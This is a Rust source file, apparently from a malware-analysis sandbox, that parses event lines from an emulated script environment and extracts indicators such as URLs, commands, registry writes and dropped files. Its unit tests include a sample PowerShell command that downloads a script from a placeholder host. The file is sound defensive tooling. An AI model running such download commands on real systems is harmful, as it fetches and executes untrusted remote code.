@@ -1,0 +1,637 @@
+//! The host side of an emulated environment: the event channel a prelude writes to, and the
+//! indicators extracted from its events.
+//!
+//! An environment's prelude (JavaScript, in `guests/js/`) reports every emulated API call as
+//! one line on a private descriptor: `TOKEN \t JSON \n`, where `TOKEN` is a random value the
+//! host put into the prelude's source for this run only, and JSON is
+//! `{"c": category, "a": api, "v": [argument, ...], "r": result, "i": {indicator: value}}`
+//! with every value a string the script computed at run time. The script under analysis can
+//! write to that descriptor too, but it cannot know the token: its lines are counted as
+//! forged and otherwise ignored.
+//!
+//! Each accepted line becomes an [`Event`](crate::trace::Event) in the run's trace (when the
+//! run is traced) and feeds the [`Indicators`] (always).
+
+use std::collections::{BTreeMap, HashSet};
+
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::trace::{Category, Recorder};
+
+/// The descriptor number the prelude writes its events to (not a real WASI descriptor: writes
+/// to it never reach the WASI context).
+pub(crate) const CHANNEL_FD: u32 = 0x7a1c;
+
+/// Bytes of event lines accepted per run; later lines are counted as dropped.
+const MAX_CHANNEL_BYTES: u64 = 256 << 20;
+/// Dynamic code snippets kept (distinct by hash); later ones are only counted.
+const MAX_SNIPPETS: usize = 1000;
+/// Characters of a snippet's text kept in the report.
+const MAX_SNIPPET_TEXT: usize = 16 * 1024;
+/// Distinct indicators kept per list.
+const MAX_PER_LIST: usize = 10_000;
+/// Bytes of outbound data kept per entry.
+const MAX_OUTBOUND_TEXT: usize = 4096;
+
+/// A file the script wrote (or would have written) in the emulated environment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct FileWrite {
+    /// The path as the script gave it (environment variables expanded by the emulator).
+    pub path: String,
+    /// Bytes written, if the content is known.
+    pub size: Option<u64>,
+    /// SHA-256 of the content (hex), if known.
+    pub sha256: Option<String>,
+    /// The API that wrote it.
+    pub api: String,
+}
+
+/// A registry value written.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct RegistryWrite {
+    /// The full key including the value name, hive abbreviated (`HKCU\...\Run\name`).
+    pub key: String,
+    /// The data written.
+    pub value: String,
+}
+
+/// A scheduled task registered.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ScheduledTask {
+    /// The task's name.
+    pub name: String,
+    /// What it runs (path and arguments).
+    pub command: String,
+}
+
+/// A shortcut saved.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Shortcut {
+    /// Where the `.lnk` was saved.
+    pub path: String,
+    /// What it points to (target and arguments).
+    pub target: String,
+}
+
+/// Code produced at run time (`eval`, `Function`, string timers, `document.write`n scripts ...).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Snippet {
+    /// How it was run: `eval`, `Function`, `setTimeout`, ...
+    pub kind: String,
+    /// SHA-256 of the whole text (hex).
+    pub sha256: String,
+    /// Its size in bytes.
+    pub size: u64,
+    /// Times this same text was run.
+    pub count: u64,
+    /// The text, cut at 16 KiB.
+    pub text: String,
+    /// True if `text` was cut.
+    pub truncated: bool,
+}
+
+/// Data the script sent somewhere.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Outbound {
+    /// Where it went.
+    pub url: String,
+    /// The API that sent it.
+    pub api: String,
+    /// Its size in bytes.
+    pub size: u64,
+    /// The data, cut at 4 KiB.
+    pub data: String,
+}
+
+/// What an analysed script did, extracted from its emulated API calls (run-time values).
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct Indicators {
+    /// Every URL requested, loaded, navigated to, sent to or put into the page as a resource,
+    /// WHATWG-normalised; same-origin URLs of the emulated page as paths (`/x`).
+    pub urls: Vec<String>,
+    /// Host names and IP literals of those URLs, and names looked up.
+    pub domains: Vec<String>,
+    /// The IP literals among `domains`.
+    pub ip_addresses: Vec<String>,
+    /// Commands run (process creations, scheduled-task actions).
+    pub commands: Vec<String>,
+    /// Files written.
+    pub files_written: Vec<FileWrite>,
+    /// Registry values written.
+    pub registry: Vec<RegistryWrite>,
+    /// Scheduled tasks registered.
+    pub scheduled_tasks: Vec<ScheduledTask>,
+    /// Shortcuts saved.
+    pub shortcuts: Vec<Shortcut>,
+    /// Code produced at run time, distinct by hash.
+    pub snippets: Vec<Snippet>,
+    /// Data sent out.
+    pub outbound: Vec<Outbound>,
+}
+
+impl Indicators {
+    /// True if nothing was extracted.
+    pub fn is_empty(&self) -> bool {
+        *self == Indicators::default()
+    }
+}
+
+/// The emulation part of a run's result.
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct Emulation {
+    /// The environment's name (`browser`, `wsh`, `node`, or a custom prelude's file name).
+    pub environment: String,
+    /// Emulated API calls reported.
+    pub api_calls: u64,
+    /// Lines written to the event channel without the run's token (the script itself writing
+    /// to the channel's descriptor).
+    pub forged_lines: u64,
+    /// Event lines dropped past the channel's byte budget, or unreadable.
+    pub dropped_lines: u64,
+    /// Snippets seen past the snippet cap (counted, not kept).
+    pub snippets_dropped: u64,
+    /// What was extracted.
+    pub indicators: Indicators,
+    /// Notes about the input (how its bytes were decoded).
+    pub notes: Vec<String>,
+}
+
+/// One event line's JSON.
+#[derive(Deserialize)]
+struct Line {
+    #[serde(default)]
+    c: String,
+    #[serde(default)]
+    a: String,
+    #[serde(default)]
+    v: Vec<String>,
+    #[serde(default)]
+    r: Option<String>,
+    #[serde(default)]
+    i: BTreeMap<String, String>,
+}
+
+/// The host end of the event channel of one run.
+pub(crate) struct Channel {
+    token: Vec<u8>,
+    pending: Vec<u8>,
+    bytes: u64,
+    extractor: Extractor,
+    /// The result so far.
+    pub emulation: Emulation,
+}
+
+impl Channel {
+    /// A channel for a run whose prelude was given `token`.
+    pub fn new(token: String, environment: String, base_url: Option<&str>) -> Channel {
+        let mut token = token.into_bytes();
+        token.push(b'\t');
+        Channel {
+            token,
+            pending: Vec::new(),
+            bytes: 0,
+            extractor: Extractor::new(base_url),
+            emulation: Emulation {
+                environment,
+                ..Emulation::default()
+            },
+        }
+    }
+
+    /// The descriptor the channel owns.
+    pub fn fd(&self) -> u32 {
+        CHANNEL_FD
+    }
+
+    /// Takes bytes the guest wrote to the channel's descriptor.
+    pub fn write(&mut self, bytes: &[u8], recorder: &Recorder) {
+        if self.bytes >= MAX_CHANNEL_BYTES {
+            self.emulation.dropped_lines += bytes.iter().filter(|b| **b == b'\n').count() as u64;
+            return;
+        }
+        self.bytes += bytes.len() as u64;
+        let mut rest = bytes;
+        while let Some(nl) = rest.iter().position(|b| *b == b'\n') {
+            if self.pending.is_empty() {
+                self.line(&rest[..nl], recorder);
+            } else {
+                let mut line = std::mem::take(&mut self.pending);
+                line.extend_from_slice(&rest[..nl]);
+                self.line(&line, recorder);
+            }
+            rest = &rest[nl + 1..];
+        }
+        self.pending.extend_from_slice(rest);
+    }
+
+    fn line(&mut self, line: &[u8], recorder: &Recorder) {
+        let Some(json) = line.strip_prefix(self.token.as_slice()) else {
+            self.emulation.forged_lines += 1;
+            return;
+        };
+        let Ok(line) = serde_json::from_slice::<Line>(json) else {
+            self.emulation.dropped_lines += 1;
+            return;
+        };
+        self.emulation.api_calls += 1;
+        let category = category(&line.c);
+        recorder.record(
+            &line.a,
+            category,
+            || render_args(&line.v),
+            || match &line.r {
+                Some(r) if !r.is_empty() => format!("ok: {}", crate::trace::quote(r)),
+                _ => "ok".into(),
+            },
+            false,
+        );
+        self.extractor.add(&line.a, &line.i, &mut self.emulation);
+    }
+
+    /// Ends the run: the indicators and counts.
+    pub fn finish(mut self) -> Emulation {
+        if !self.pending.is_empty() {
+            // A line cut by the end of the run (a trap mid-write) is not an event.
+            self.emulation.dropped_lines += 1;
+        }
+        self.emulation
+    }
+}
+
+/// The trace category of a prelude's category name.
+fn category(c: &str) -> Category {
+    match c {
+        "network" => Category::Network,
+        "process" => Category::Process,
+        "registry" => Category::Registry,
+        "dom" => Category::Dom,
+        "dynamic_code" => Category::DynamicCode,
+        "filesystem_read" => Category::FilesystemRead,
+        "filesystem_write" => Category::FilesystemWrite,
+        "directory_listing" => Category::DirectoryListing,
+        "environment" => Category::Environment,
+        "clock" => Category::Clock,
+        _ => Category::Other,
+    }
+}
+
+/// Arguments as a trace summary: each quoted and capped, comma-separated.
+fn render_args(v: &[String]) -> String {
+    v.iter()
+        .map(|a| crate::trace::quote(a))
+        .collect::<Vec<_>>()
+        .join(", ")
+}
+
+/// Turns indicator hints into deduplicated, normalised indicators.
+struct Extractor {
+    base: Option<url::Url>,
+    seen_urls: HashSet<String>,
+    seen_domains: HashSet<String>,
+    seen_commands: HashSet<String>,
+    seen_other: HashSet<(u8, String)>,
+    snippets: BTreeMap<String, usize>,
+}
+
+impl Extractor {
+    fn new(base_url: Option<&str>) -> Extractor {
+        Extractor {
+            base: base_url.and_then(|b| url::Url::parse(b).ok()),
+            seen_urls: HashSet::new(),
+            seen_domains: HashSet::new(),
+            seen_commands: HashSet::new(),
+            seen_other: HashSet::new(),
+            snippets: BTreeMap::new(),
+        }
+    }
+
+    fn add(&mut self, api: &str, i: &BTreeMap<String, String>, out: &mut Emulation) {
+        let get = |k: &str| i.get(k).map(String::as_str);
+        if let Some(b) = get("base_url") {
+            // The environment says where its page is: relative URLs resolve against it, and
+            // URLs of its origin are written as paths.
+            self.base = url::Url::parse(b).ok();
+        }
+        if let Some(u) = get("url") {
+            let url = self.url(u, &mut out.indicators);
+            if let Some(data) = get("data") {
+                push_capped(
+                    &mut out.indicators.outbound,
+                    Outbound {
+                        url: url.unwrap_or_else(|| u.to_string()),
+                        api: api.to_string(),
+                        size: data.len() as u64,
+                        data: truncate(data, MAX_OUTBOUND_TEXT).0,
+                    },
+                );
+            }
+        }
+        if let Some(h) = get("host") {
+            self.domain(h, &mut out.indicators);
+        }
+        if let Some(c) = get("command") {
+            self.command(c, &mut out.indicators);
+        }
+        if let Some(path) = get("file") {
+            let content = get("content").map(|c| {
+                if get("content_encoding") == Some("latin1") {
+                    c.chars().map(|ch| ch as u32 as u8).collect::<Vec<u8>>()
+                } else {
+                    c.as_bytes().to_vec()
+                }
+            });
+            let w = FileWrite {
+                path: path.to_string(),
+                size: content.as_ref().map(|c| c.len() as u64),
+                sha256: content
+                    .as_ref()
+                    .map(|c| crate::sandbox::hex(&Sha256::digest(c))),
+                api: api.to_string(),
+            };
+            if self
+                .seen_other
+                .insert((0, format!("{path}\0{:?}", w.sha256)))
+            {
+                push_capped(&mut out.indicators.files_written, w);
+            }
+        }
+        if let Some(key) = get("regkey") {
+            let value = get("regvalue").unwrap_or_default().to_string();
+            if self.seen_other.insert((1, format!("{key}\0{value}"))) {
+                push_capped(
+                    &mut out.indicators.registry,
+                    RegistryWrite {
+                        key: key.to_string(),
+                        value,
+                    },
+                );
+            }
+        }
+        if let Some(command) = get("task_command") {
+            let name = get("task_name").unwrap_or_default().to_string();
+            self.command(command, &mut out.indicators);
+            if self.seen_other.insert((2, format!("{name}\0{command}"))) {
+                push_capped(
+                    &mut out.indicators.scheduled_tasks,
+                    ScheduledTask {
+                        name,
+                        command: command.to_string(),
+                    },
+                );
+            }
+        }
+        if let Some(path) = get("shortcut") {
+            let target = get("target").unwrap_or_default().to_string();
+            if self.seen_other.insert((3, format!("{path}\0{target}"))) {
+                push_capped(
+                    &mut out.indicators.shortcuts,
+                    Shortcut {
+                        path: path.to_string(),
+                        target,
+                    },
+                );
+            }
+        }
+        if let Some(code) = get("code") {
+            let kind = get("code_kind").unwrap_or(api);
+            self.snippet(kind, code, out);
+        }
+    }
+
+    /// Records a URL; returns its normalised form.
+    fn url(&mut self, raw: &str, ind: &mut Indicators) -> Option<String> {
+        let raw = raw.trim();
+        if raw.is_empty() {
+            return None;
+        }
+        let parsed = match &self.base {
+            Some(b) => b.join(raw),
+            None => url::Url::parse(raw),
+        };
+        let (text, host) = match parsed {
+            Ok(u) if matches!(u.scheme(), "javascript" | "about") => return None,
+            Ok(u) if u.scheme() == "data" || u.scheme() == "blob" => (u.to_string(), None),
+            Ok(u) => {
+                let same_origin = self.base.as_ref().is_some_and(|b| b.origin() == u.origin());
+                if same_origin {
+                    let mut path = u.path().to_string();
+                    if let Some(q) = u.query() {
+                        path.push('?');
+                        path.push_str(q);
+                    }
+                    if let Some(f) = u.fragment() {
+                        path.push('#');
+                        path.push_str(f);
+                    }
+                    (path, None)
+                } else {
+                    let host = u.host_str().map(|h| h.trim_matches(['[', ']']).to_string());
+                    (u.to_string(), host)
+                }
+            }
+            // Not a URL by WHATWG rules (a relative path outside a page, say): kept as written.
+            Err(_) => (raw.to_string(), None),
+        };
+        if let Some(h) = host {
+            self.domain(&h, ind);
+        }
+        if self.seen_urls.len() < MAX_PER_LIST && self.seen_urls.insert(text.clone()) {
+            ind.urls.push(text.clone());
+        }
+        Some(text)
+    }
+
+    fn domain(&mut self, host: &str, ind: &mut Indicators) {
+        let host = host.trim().trim_end_matches('.').to_ascii_lowercase();
+        if host.is_empty() || self.seen_domains.len() >= MAX_PER_LIST {
+            return;
+        }
+        if self.seen_domains.insert(host.clone()) {
+            if host.parse::<std::net::IpAddr>().is_ok() {
+                ind.ip_addresses.push(host.clone());
+            }
+            ind.domains.push(host);
+        }
+    }
+
+    fn command(&mut self, command: &str, ind: &mut Indicators) {
+        let command = command.trim();
+        if command.is_empty() {
+            return;
+        }
+        if self.seen_commands.len() < MAX_PER_LIST && self.seen_commands.insert(command.into()) {
+            ind.commands.push(command.to_string());
+        }
+        for u in urls_in(command) {
+            self.url(&u, ind);
+        }
+    }
+
+    fn snippet(&mut self, kind: &str, code: &str, out: &mut Emulation) {
+        let sha = crate::sandbox::hex(&Sha256::digest(code.as_bytes()));
+        if let Some(&i) = self.snippets.get(&sha) {
+            out.indicators.snippets[i].count += 1;
+            return;
+        }
+        if self.snippets.len() >= MAX_SNIPPETS {
+            out.snippets_dropped += 1;
+            return;
+        }
+        let (text, truncated) = truncate(code, MAX_SNIPPET_TEXT);
+        self.snippets
+            .insert(sha.clone(), out.indicators.snippets.len());
+        out.indicators.snippets.push(Snippet {
+            kind: kind.to_string(),
+            sha256: sha,
+            size: code.len() as u64,
+            count: 1,
+            text,
+            truncated,
+        });
+    }
+}
+
+fn push_capped<T>(v: &mut Vec<T>, item: T) {
+    if v.len() < MAX_PER_LIST {
+        v.push(item);
+    }
+}
+
+/// The first `max` bytes of `s` (at a character boundary), and whether it was cut.
+fn truncate(s: &str, max: usize) -> (String, bool) {
+    if s.len() <= max {
+        return (s.to_string(), false);
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    (s[..end].to_string(), true)
+}
+
+/// `http(s)://...` URLs inside a command line, up to whitespace or a quote.
+fn urls_in(text: &str) -> Vec<String> {
+    let lower = text.to_ascii_lowercase();
+    let mut found = Vec::new();
+    let mut from = 0;
+    while let Some(rel) = lower[from..].find("http") {
+        let start = from + rel;
+        let rest = &lower[start + 4..];
+        if !(rest.starts_with("://") || rest.starts_with("s://")) {
+            from = start + 4;
+            continue;
+        }
+        let end = text[start..]
+            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')'))
+            .map_or(text.len(), |e| start + e);
+        found.push(text[start..end].trim_end_matches([',', ';']).to_string());
+        from = end;
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn recorder() -> Recorder {
+        Recorder::disabled()
+    }
+
+    #[test]
+    fn lines_without_the_token_are_forged_and_ignored() {
+        let mut ch = Channel::new("abc".into(), "wsh".into(), None);
+        let r = recorder();
+        ch.write(b"abc\t{\"c\":\"process\",\"a\":\"WScript.Shell.Run\",\"v\":[\"calc.exe\"],\"i\":{\"command\":\"calc.exe\"}}\n", &r);
+        ch.write(
+            b"abd\t{\"c\":\"process\",\"a\":\"x\",\"i\":{\"command\":\"evil\"}}\n",
+            &r,
+        );
+        ch.write(b"{\"i\":{\"command\":\"evil2\"}}\n", &r);
+        let e = ch.finish();
+        assert_eq!(e.api_calls, 1);
+        assert_eq!(e.forged_lines, 2);
+        assert_eq!(e.indicators.commands, vec!["calc.exe"]);
+    }
+
+    #[test]
+    fn lines_split_across_writes_are_joined() {
+        let mut ch = Channel::new("t".into(), "node".into(), None);
+        let r = recorder();
+        let line = b"t\t{\"c\":\"network\",\"a\":\"dns.lookup\",\"i\":{\"host\":\"A.Example.\"}}\n";
+        for b in line.chunks(3) {
+            ch.write(b, &r);
+        }
+        let e = ch.finish();
+        assert_eq!(e.indicators.domains, vec!["a.example"]);
+        assert_eq!(e.dropped_lines, 0);
+    }
+
+    #[test]
+    fn urls_are_normalised_and_same_origin_ones_become_paths() {
+        let mut ch = Channel::new(
+            "t".into(),
+            "browser".into(),
+            Some("https://page.test/index.html"),
+        );
+        let r = recorder();
+        for u in [
+            "HTTPS://CDN.Example.com:443/a.js",
+            "/pricing-b",
+            "pay.php?x=1",
+            "http://192.0.2.1:80",
+            "javascript:void(0)",
+        ] {
+            let line = format!(
+                "t\t{{\"c\":\"network\",\"a\":\"fetch\",\"i\":{{\"url\":{}}}}}\n",
+                serde_json::to_string(u).unwrap_or_default()
+            );
+            ch.write(line.as_bytes(), &r);
+        }
+        let e = ch.finish();
+        assert_eq!(
+            e.indicators.urls,
+            vec![
+                "https://cdn.example.com/a.js",
+                "/pricing-b",
+                "/pay.php?x=1",
+                "http://192.0.2.1/"
+            ]
+        );
+        assert_eq!(e.indicators.domains, vec!["cdn.example.com", "192.0.2.1"]);
+        assert_eq!(e.indicators.ip_addresses, vec!["192.0.2.1"]);
+    }
+
+    #[test]
+    fn commands_contribute_their_urls_and_snippets_are_deduplicated() {
+        let mut ch = Channel::new("t".into(), "wsh".into(), None);
+        let r = recorder();
+        ch.write(b"t\t{\"c\":\"process\",\"a\":\"Run\",\"i\":{\"command\":\"powershell -c iwr 'http://x.example/p.ps1'\"}}\n", &r);
+        for _ in 0..3 {
+            ch.write(
+                b"t\t{\"c\":\"dynamic_code\",\"a\":\"eval\",\"i\":{\"code\":\"1+1\",\"code_kind\":\"eval\"}}\n",
+                &r,
+            );
+        }
+        let e = ch.finish();
+        assert_eq!(e.indicators.urls, vec!["http://x.example/p.ps1"]);
+        assert_eq!(e.indicators.snippets.len(), 1);
+        assert_eq!(e.indicators.snippets[0].count, 3);
+    }
+
+    #[test]
+    fn file_contents_are_hashed() {
+        let mut ch = Channel::new("t".into(), "wsh".into(), None);
+        let r = recorder();
+        ch.write(b"t\t{\"c\":\"filesystem_write\",\"a\":\"ADODB.Stream.SaveToFile\",\"i\":{\"file\":\"C:\\\\x.exe\",\"content\":\"MZ\\u00ff\",\"content_encoding\":\"latin1\"}}\n", &r);
+        let e = ch.finish();
+        let f = &e.indicators.files_written[0];
+        assert_eq!(f.path, "C:\\x.exe");
+        assert_eq!(f.size, Some(3));
+        assert_eq!(
+            f.sha256.as_deref(),
+            Some(crate::sandbox::hex(&Sha256::digest(b"MZ\xff")).as_str())
+        );
+    }
+}
